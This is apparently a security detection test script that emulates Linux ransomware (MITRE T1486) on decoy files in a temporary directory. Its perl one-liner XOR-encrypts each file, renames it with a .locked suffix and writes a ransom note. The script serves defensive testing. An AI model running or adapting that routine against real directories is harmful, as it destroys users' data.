#!/bin/sh
# case: T1486-encrypt-with-perl-xor
# technique: Encrypted for impact: perl rewrites each file and renames it
# source: LockBit/RansomEXX Linux shapes; redcanaryco/atomic-red-team T1486-1
# needs: perl
# expect: file resource
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
trap 'cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
need perl
mkdir "$W/docs"; i=0; while [ $i -lt 40 ]; do head -c 3000 /dev/urandom > "$W/docs/f$i.doc"; i=$((i+1)); done
perl -e 'for(glob "$ARGV[0]/*"){open F,"<",$_;binmode F;local $/;$d=<F>;close F;$d^="k"x length $d;open F,">",$_;print F $d;close F;rename $_,"$_.locked"}open N,">","$ARGV[0]/README_TO_DECRYPT.txt";print N "pay"' "$W/docs" 
exit 0
